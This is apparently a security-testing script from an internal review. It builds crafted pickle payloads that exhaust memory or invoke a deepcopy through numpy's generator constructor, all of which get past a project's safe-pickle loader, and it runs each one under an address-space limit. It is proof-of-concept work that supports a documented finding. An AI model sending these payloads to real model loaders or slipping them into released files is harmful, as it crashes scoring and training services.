"""Session 35 (helper sec35): two signed-payload memory bombs the model loader does not refuse (finding F1 of
docs/experiments/sec35.md). Run in a child with an address-space limit, so the machine is not the victim::

    PYTHONPATH=$PWD /work/main/.venv/bin/python docs/experiments/pickle_amp35.py deque 200000 5000
    PYTHONPATH=$PWD /work/main/.venv/bin/python docs/experiments/pickle_amp35.py build 100000 2000
    PYTHONPATH=$PWD /work/main/.venv/bin/python docs/experiments/pickle_amp35.py genctor 200000 0   # F8

``deque N CALLS``: a list of N references to one int (2 bytes each), then CALLS times ``collections.deque(list)``
(7 bytes each, all kept on the stack): N x CALLS x 8 bytes. ``build N CALLS``: a dict of N keys, then CALLS times
``river.stats.mean.Mean()`` with that dict (a memo reference) as BUILD state: each instance copies the dict.
Both use only allow-listed globals and name no bounded constructor, so the opcode scan does not run, and the
per-read memory check counts ``sys.getallocatedblocks()``, which does not see the large (> 512 byte) allocations
of a deque's blocks or a dict's table. With the 3 GiB limit below, both end in MemoryError at the limit; without
it the process (a scorer, or a trainer restoring a release) grows until the kernel kills it.
"""

from __future__ import annotations

import pickletools
import resource
import sys
import time
import zlib

from learners import safe_pickle

LIMIT = 3 << 30


def framed(body: bytes) -> bytes:
    """Protocol 5 with frames of at most 64 KB cut at opcode boundaries, as the pickler writes them."""
    data = b"\x80\x05" + body
    cuts = [*[pos for _, _, pos in pickletools.genops(data)][1:], len(data)]
    out, start, last = bytearray(b"\x80\x05"), 2, 2
    for cut in cuts:
        if cut - start > 65536:
            out += b"\x95" + (last - start).to_bytes(8, "little") + data[start:last]
            start = last
        last = cut
    out += b"\x95" + (len(data) - start).to_bytes(8, "little") + data[start:]
    return bytes(out)


def deque_bomb(n: int, calls: int) -> bytes:
    body = bytearray(b"]\x94K\x01\x940(" + b"h\x01" * n + b"e0")  # list (memo 0) of n times int 1 (memo 1)
    body += b"\x8c\x0bcollections\x94\x8c\x05deque\x94\x93\x94"  # collections.deque (memo 4)
    body += b"(" + b"h\x04h\x00\x85R" * calls + b"l."  # [deque(list) for each call], kept in one list
    return framed(bytes(body))


def build_bomb(n: int, calls: int) -> bytes:
    body = bytearray(b"}\x94(")
    for i in range(n):
        key = b"k%d" % i
        body += b"\x8c" + bytes([len(key)]) + key + b"N"
    body += b"u0"  # the dict (memo 0)
    body += b"\x8c\x10river.stats.mean\x94\x8c\x04Mean\x94\x93\x94"  # river.stats.mean.Mean (memo 3)
    body += b"(" + b"h\x03)\x81h\x00b" * calls + b"l."  # [Mean() with the dict as BUILD state ...]
    return framed(bytes(body))


def genctor_call(n: int, calls: int) -> bytes:
    """F8: ``numpy.random._pickle.__generator_ctor(list, functools.partial(copy.deepcopy))`` calls the partial at
    load time (``deepcopy(list)``), although the scan refuses calling anything but a global; ``Generator()`` then
    fails on the copy ("'list' object has no attribute 'capsule'"), after the copy was made."""
    body = bytearray(b"]\x94K\x01\x940(" + b"h\x01" * n + b"e0")  # list (memo 0)
    body += b"\x8c\x09functools\x94\x8c\x07partial\x94\x93\x94"  # memo 4
    body += b"\x8c\x04copy\x94\x8c\x08deepcopy\x94\x93\x94"  # memo 7
    body += b"h\x04h\x07\x85R\x94"  # partial(deepcopy): memo 8
    body += b"\x8c\x14numpy.random._pickle\x94\x8c\x10__generator_ctor\x94\x93\x94"  # memo 11
    body += b"h\x0bh\x00h\x08\x86R."  # __generator_ctor(list, partial(deepcopy))
    return framed(bytes(body))


def main() -> int:
    kind, n, calls = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    resource.setrlimit(resource.RLIMIT_AS, (LIMIT, LIMIT))
    raw = {"deque": deque_bomb, "build": build_bomb, "genctor": genctor_call}[kind](n, calls)
    payload = zlib.compress(raw, 9)
    print(f"{kind}: pickle {len(raw):,} bytes, payload {len(payload):,} bytes", flush=True)
    t0 = time.monotonic()
    try:
        safe_pickle.loads(payload)
        outcome = "loaded"
    except BaseException as exc:
        outcome = f"{type(exc).__name__}: {str(exc)[:160]}"
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
    print(f"{outcome}; peak RSS {peak:,} MB after {time.monotonic() - t0:.1f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
